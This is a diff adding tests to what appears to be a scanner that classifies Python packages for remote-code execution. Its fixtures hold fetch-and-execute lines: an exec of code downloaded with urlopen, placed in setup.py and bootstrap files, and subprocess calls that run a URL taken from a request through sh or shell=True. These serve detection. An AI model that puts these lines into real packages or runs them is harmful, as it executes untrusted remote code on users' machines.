@@ -560,3 +560,44 @@ test('an agent that its caller points at a server is held, one that knows its se
   ])
     expect(await of(lines)).toContainEqual(expect.objectContaining({ class: 'malware', score: 10 }));
 });
+
+test('an old bootstrap that only a developer starts is let be, and harm where a build runs it', async () => {
+  const line = "exec(urllib2.urlopen('http://peak.telecommunity.com/dist/ez_setup.py').read())";
+  const beside = sdist({
+    'setup.py': python(
+      'from setuptools import setup, find_packages',
+      "setup(name='example', packages=find_packages('src'))",
+    ),
+    'src/sample_maps/__init__.py': '',
+    'bootstrap.py': python('import urllib2', line),
+    'bootstrap/bootstrap.py': python('import urllib2', line),
+  });
+  const built = sdist({
+    'setup.py': python('import urllib2', line, 'from setuptools import setup', "setup(name='example')"),
+  });
+
+  for (const { class: kind, score } of await inspect('remote-code', beside)) {
+    expect(kind).toBe('suspicious');
+    expect(score).toBeLessThan(5);
+  }
+  expect(await inspect('remote-code', built)).toMatchObject([{ class: 'malware', context: 'install', score: 10 }]);
+});
+
+test.each([
+  ["['curl', '-s', '-I', url]", []],
+  ["['sh', url]", [{ class: 'malware' }]],
+  ['url, shell=True', [{ class: 'malware' }]],
+])('words that came out of a request, on call: check_output(%s)', async (command, expected) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import subprocess',
+      'def follow(url):',
+      "    answer = subprocess.check_output(['curl', '-s', '-I', 'https://api.vendor.invalid/next'])",
+      '    for line in answer.decode().splitlines():',
+      '        url = line.split()[1]',
+      `        subprocess.check_output(${command})`,
+    ),
+  });
+
+  expect(await inspect('remote-code', file)).toMatchObject(expected);
+});
